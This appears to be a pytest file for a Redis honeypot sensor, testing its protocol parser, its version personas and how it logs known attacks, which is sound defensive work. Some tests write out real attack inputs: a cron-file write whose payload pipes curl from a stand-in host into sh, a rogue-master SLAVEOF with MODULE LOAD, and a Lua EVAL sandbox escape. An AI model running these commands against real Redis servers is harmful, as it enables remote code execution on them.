"""The Redis sensor: RESP parsing, the answers of Redis 5/6/7, the classic attacks, real clients."""

from __future__ import annotations

import asyncio
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from honeyguard.config import Limits
from honeyguard.model import Event
from honeyguard.sensor.redisd.commands import MAX_KEYS, RedisEmulator, Shared
from honeyguard.sensor.redisd.connection import RedisConnection
from honeyguard.sensor.redisd.resp import ProtocolError, RespParser, split_args
from honeyguard.sensor.services.redis import find_persona
from tests.conftest import tool
from tests.sensor.wire_helpers import ErrorLog, FakeTransport, RawClient, drive, fake_context


def cli(port: int, *args: str) -> str:
    result = subprocess.run([tool("redis-cli"), "-h", "127.0.0.1", "-p", str(port), *args],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    return result.stdout.rstrip("\n")  # redis-cli ends an error with an empty line when not on a tty


def commands(events: list[Event]) -> list[list[str]]:
    return [e.body.args for e in events if e.kind == "redis.command"]  # type: ignore[union-attr]


def wait_sessions(sensor, count: int) -> list[Event]:  # type: ignore[no-untyped-def]
    return sensor.sink.wait_for(lambda evs: len([e for e in evs if e.kind == "session.closed"]) >= count)


# -- with redis-cli --------------------------------------------------------------------------------

def test_redis_cli_ping_info_and_unknown(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["redis"])
    port = sensor.port("redis")
    assert cli(port, "PING") == "PONG"
    info = cli(port, "INFO", "server")
    assert info.startswith("# Server\nredis_version:6.0.16\n") and f"tcp_port:{port}" in info
    assert "# Keyspace" not in info
    assert cli(port, "FLUSHEVERYTHING", "now") == (
        "ERR unknown command `FLUSHEVERYTHING`, with args beginning with: `now`, ")
    events = wait_sessions(sensor, 3)
    assert commands(events) == [["PING"], ["INFO", "server"], ["FLUSHEVERYTHING", "now"]]
    assert [e.body.handled for e in events if e.kind == "redis.command"] == [True, True, False]  # type: ignore[union-attr]
    assert {e.protocol for e in events} == {"redis"} and {e.persona for e in events} == {"redis-6-ubuntu-22.04"}


def test_cron_write_attack_is_answered_and_recorded(make_sensor) -> None:  # type: ignore[no-untyped-def]
    """The classic unauthenticated write: point dir/dbfilename at cron, store a payload, SAVE."""
    sensor = make_sensor(["redis"])
    port = sensor.port("redis")
    payload = "\n\n*/1 * * * * curl -fsSL http://198.51.100.7/init.sh | sh\n\n"
    script = ("FLUSHALL\nCONFIG SET dir /var/spool/cron/crontabs\nCONFIG SET dbfilename root\n"
              f"SET backup1 \"{payload.encode('unicode_escape').decode()}\"\nCONFIG GET dir\nSAVE\n")
    result = subprocess.run([tool("redis-cli"), "-h", "127.0.0.1", "-p", str(port)], input=script,
                            capture_output=True, text=True, timeout=60)
    assert result.stdout.split("\n")[:8] == ["OK", "OK", "OK", "OK", "dir", "/var/spool/cron/crontabs", "OK", ""]
    events = wait_sessions(sensor, 1)
    recorded = commands(events)
    assert ["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"] in recorded
    assert ["CONFIG", "SET", "dbfilename", "root"] in recorded
    assert ["SET", "backup1", payload] in recorded
    assert recorded[-1] == ["SAVE"]


def test_rogue_master_attack_never_connects(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["redis"])
    port = sensor.port("redis")
    assert cli(port, "SLAVEOF", "203.0.113.66", "21000") == "OK"
    assert cli(port, "CONFIG", "SET", "dbfilename", "exp.so") == "OK"
    assert cli(port, "MODULE", "LOAD", "./exp.so") == "ERR Error loading the extension. Please check the server logs."
    assert cli(port, "system.exec", "id").startswith("ERR unknown command `system.exec`")
    eval_out = cli(port, "EVAL", 'local io_l = package.loadlib("/usr/lib/liblua5.1.so.0", "luaopen_io"); '
                   'return io_l().popen("id", "r"):read("*a")', "0")
    assert eval_out.startswith("ERR Error running script") and "'package'" in eval_out
    events = wait_sessions(sensor, 5)
    assert commands(events)[0] == ["SLAVEOF", "203.0.113.66", "21000"]
    assert commands(events)[2] == ["MODULE", "LOAD", "./exp.so"]
    assert commands(events)[4][0] == "EVAL"


def test_slaveof_shows_in_info_of_that_connection() -> None:
    emulator = _emulator("redis-6-ubuntu-22.04")
    assert emulator.execute([b"REPLICAOF", b"203.0.113.66", b"21000"]).data == b"+OK\r\n"
    text = emulator.execute([b"INFO", b"replication"]).data.decode()
    assert "role:slave\r\nmaster_host:203.0.113.66\r\nmaster_port:21000\r\nmaster_link_status:down" in text
    assert emulator.execute([b"ROLE"]).data.startswith(b"*5\r\n$5\r\nslave\r\n")


def test_redis7_persona_wants_auth_and_protects_configs(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["redis"], personas={"redis": "redis-7-debian-12"})
    port = sensor.port("redis")
    assert cli(port, "INFO") == "NOAUTH Authentication required."
    info = cli(port, "-a", "guessed", "--no-auth-warning", "INFO")
    assert "redis_version:7.0.15" in info and "# Modules" in info and "db0:keys=1" in info
    assert cli(port, "-a", "x", "--no-auth-warning", "CONFIG", "SET", "dir", "/root/.ssh") == (
        "ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config")
    assert cli(port, "-a", "x", "--no-auth-warning", "NOPE").startswith(
        "ERR unknown command 'NOPE', with args beginning with:")
    events = wait_sessions(sensor, 4)
    assert ["AUTH", "guessed"] in commands(events)


def test_http_sent_to_redis_is_cut_off_as_redis_does(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["redis"])
    client = RawClient(sensor.port("redis"))
    client.send(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: curl/8\r\n\r\n")
    assert client.read_to_close() == b"-ERR wrong number of arguments for 'get' command\r\n"
    client.close()
    events = wait_sessions(sensor, 1)
    assert commands(events) == [["GET", "/", "HTTP/1.1"], ["Host:", "127.0.0.1"]]
    assert [e.body.reason for e in events if e.kind == "session.closed"] == ["server-closed"]  # type: ignore[union-attr]


def test_protocol_error_is_redis_wording_and_kept_raw(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["redis"])
    client = RawClient(sensor.port("redis"))
    client.send(b"*1\r\n$4\r\nPING\r\n*2\r\n:12\r\n")
    assert client.read_to_close() == b"+PONG\r\n-ERR Protocol error: expected '$', got ':'\r\n"
    client.close()
    events = wait_sessions(sensor, 1)
    raw = [e.body for e in events if e.kind == "raw.data"]
    assert len(raw) == 1 and raw[0].data.endswith(b":12\r\n")  # type: ignore[union-attr]


def test_command_cap(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["redis"], limits=Limits(max_commands=3))
    client = RawClient(sensor.port("redis"))
    client.send(b"PING\r\n" * 6)
    assert client.read_to_close() == b"+PONG\r\n" * 3
    client.close()
    events = wait_sessions(sensor, 1)
    assert [e.body.reason for e in events if e.kind == "session.closed"] == ["cap-commands"]  # type: ignore[union-attr]


def test_nmap_names_redis_and_its_version(make_sensor, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """On a random port nmap's GET probe already says "Redis"; its INFO probe (the one that reads
    the version) is tried first on 6379 only, so a copy of nmap's data marks our port as Redis's."""
    sensor = make_sensor(["redis"])
    port = sensor.port("redis")
    nmap = tool("nmap")
    plain = subprocess.run([nmap, "-sT", "-Pn", "-sV", "-p", str(port), "127.0.0.1"],
                           capture_output=True, text=True, timeout=180).stdout
    assert re.search(rf"^{port}/tcp\s+open\s+redis\s+Redis key-value store", plain, re.M), plain
    datadir = tmp_path / "nmap"
    shutil.copytree("/usr/share/nmap", datadir)
    probes = datadir / "nmap-service-probes"
    text = probes.read_text(encoding="latin-1")
    marker = "Probe TCP redis-server q|*1\\r\\n$4\\r\\ninfo\\r\\n|\nrarity 8\nports 6379\n"
    assert marker in text
    probes.write_text(text.replace(marker, marker.replace("ports 6379", f"ports 6379,{port}")), encoding="latin-1")
    versioned = subprocess.run([nmap, "--datadir", str(datadir), "-sT", "-Pn", "-sV", "-p", str(port), "127.0.0.1"],
                               capture_output=True, text=True, timeout=180).stdout
    assert re.search(rf"^{port}/tcp\s+open\s+redis\s+Redis key-value store 6\.0\.16", versioned, re.M), versioned


# -- the parser and the emulator ---------------------------------------------------------------

def _emulator(persona: str) -> RedisEmulator:
    ctx, _ = fake_context(Limits())
    return RedisEmulator(Shared(persona=find_persona(persona, ctx), port=6379, run_id="0" * 40,
                                sensor_started=0.0), now=lambda: 1_000_000.0)


def parse_all(data: bytes, cut: int = 0) -> list[list[bytes] | str]:
    parser = RespParser(max_command_bytes=4096)
    out: list[list[bytes] | str] = []
    pieces = [data[i:i + cut] for i in range(0, len(data), cut)] if cut else [data]
    for piece in pieces:
        parser.feed(piece)
        while (item := parser.next()) is not None:
            out.append(str(item) if isinstance(item, ProtocolError) else item)
    return out


def test_parser_reads_multibulk_and_inline() -> None:
    data = b'*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$5\r\na\r\nb\0\r\n\r\nset "a b" \'c\\\'d\' "\\x41\\n"\n*0\r\n*-1\r\nPING\n'
    assert parse_all(data) == [[b"SET", b"k", b"a\r\nb\0"], [b"set", b"a b", b"c'd", b"A\n"], [b"PING"]]
    assert parse_all(data, cut=1) == parse_all(data)


def test_parser_errors_are_redis_errors() -> None:
    assert parse_all(b"*x\r\n") == ["invalid multibulk length"]
    assert parse_all(b"*1\r\n$-5\r\n") == ["invalid bulk length"]
    assert parse_all(b'GET "abc\n') == ["unbalanced quotes in request"]
    assert parse_all(b"A" * 70000) == ["too big inline request"]
    assert parse_all(b"*1\r\n$100000\r\n") == ["invalid bulk length"]  # over this connection's cap


def test_split_args_matches_redis_quoting() -> None:
    assert split_args(b"  a  'b c'  \"d\\te\" ") == [b"a", b"b c", b"d\te"]
    assert split_args(b'"a"b') is None and split_args(b"'open") is None


def test_keyspace_is_capped() -> None:
    emulator = _emulator("redis-6-ubuntu-22.04")
    replies = [emulator.execute([b"SET", b"k%d" % i, b"v"]).data for i in range(MAX_KEYS + 5)]
    assert replies[0] == b"+OK\r\n" and replies[-1].startswith(b"-OOM")
    assert emulator.execute([b"SET", b"big", b"x" * (2 * 1024 * 1024)]).data.startswith(b"-OOM")
    assert emulator.execute([b"FLUSHALL"]).data == b"+OK\r\n"
    assert emulator.execute([b"DBSIZE"]).data == b":0\r\n"
    assert emulator.execute([b"SET", b"k", b"v"]).data == b"+OK\r\n"


def test_versions_word_errors_their_way() -> None:
    assert _emulator("redis-5-ubuntu-20.04").execute([b"AUTH", b"x"]).data == (
        b"-ERR Client sent AUTH, but no password is set\r\n")
    assert _emulator("redis-7-debian-12").execute([b"AUTH", b"x"]).data == b"+OK\r\n"
    seven = _emulator("redis-7-debian-12")
    seven.execute([b"AUTH", b"x"])
    assert seven.execute([b"MODULE", b"LOAD", b"/tmp/x.so"]).data.startswith(b"-ERR MODULE command not allowed")
    assert seven.execute([b"get"]).data == b"-ERR wrong number of arguments for 'get' command\r\n"


redis_bytes = st.lists(st.one_of(
    st.binary(max_size=48),
    st.sampled_from([b"*", b"*2\r\n", b"$3\r\n", b"GET\r\n", b"\r\n", b"*1\r\n$4\r\nPING\r\n", b"$-1\r\n",
                     b"*-1\r\n", b"$99999999999\r\n", b"CONFIG SET dir /tmp\n", b'"', b"'", b"\\x4", b"INFO\r\n",
                     b"KEYS *a*a*a*a*a*a*a*b\r\n", b"SET k v\r\n", b"EVAL x 0\r\n", b"QUIT\r\n", b"host: x\r\n"]),
), max_size=30)


@given(redis_bytes, st.integers(min_value=1, max_value=9))
@settings(max_examples=300, deadline=None)
def test_parser_never_raises_and_ignores_cuts(pieces: list[bytes], cut: int) -> None:
    data = b"".join(pieces)
    assert parse_all(data, cut) == parse_all(data)


@given(redis_bytes, st.sampled_from(["redis-5-ubuntu-20.04", "redis-6-ubuntu-22.04", "redis-7-debian-12"]))
@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_connection_survives_any_bytes(pieces: list[bytes], persona: str) -> None:
    ctx, sink = fake_context(Limits(max_buffer_bytes=512, max_commands=8))
    shared = Shared(persona=find_persona(persona, ctx), port=6379, run_id="0" * 40, sensor_started=0.0)
    with ErrorLog() as errors:
        drive(lambda: RedisConnection(ctx, shared), pieces)
    assert not errors.records, "a connection failed"
    assert len([e for e in sink.events() if e.kind == "session.closed"]) == 1
    assert ctx.gate.active == 0


@pytest.mark.parametrize("persona", ["redis-5-ubuntu-20.04", "redis-6-ubuntu-22.04", "redis-7-debian-12"])
def test_info_starts_as_scanners_expect(persona: str) -> None:
    emulator = _emulator(persona)
    emulator.execute([b"AUTH", b"x"])
    reply = emulator.execute([b"INFO"]).data
    size, _, text = reply.partition(b"\r\n")
    assert int(size[1:]) == len(text) - 2
    assert re.match(rb"# Server\r\nredis_version:[.\d]+\r\n", text)


class _SlowReader(FakeTransport):
    """A client that reads nothing: the transport says "pause" past 64 KiB, as asyncio's does."""

    def __init__(self) -> None:
        super().__init__()
        self.protocol: RedisConnection | None = None
        self.reading = True

    def write(self, data: bytes) -> None:
        super().write(data)
        if len(self.written) > 64 * 1024 and self.protocol is not None and self.reading:
            self.protocol.pause_writing()

    def pause_reading(self) -> None:
        self.reading = False

    def resume_reading(self) -> None:
        self.reading = True


def test_pipelined_commands_wait_for_a_client_that_does_not_read() -> None:
    async def main() -> tuple[int, bool, int, int]:
        ctx, sink = fake_context(Limits(max_commands=100_000))
        shared = Shared(persona=find_persona("redis-6-ubuntu-22.04", ctx), port=6379, run_id="0" * 40,
                        sensor_started=0.0)
        transport = _SlowReader()
        connection = RedisConnection(ctx, shared)
        transport.protocol = connection
        connection.connection_made(transport)  # type: ignore[arg-type]
        connection.data_received(b"INFO\r\n" * 2000)  # about 6 MB of answers asked for at once
        paused_at, reading = len(transport.written), transport.reading
        before = len(sink.events("redis.command"))
        transport.written.clear()
        connection.resume_writing()  # the client read it all: answering goes on, until the next pause
        after = len(sink.events("redis.command"))
        connection.connection_lost(None)
        return paused_at, reading, before, after

    paused_at, reading, before, after = asyncio.run(main())
    assert paused_at < 256 * 1024 and not reading  # stopped early, and stopped reading the socket
    assert 0 < before < after < 2000
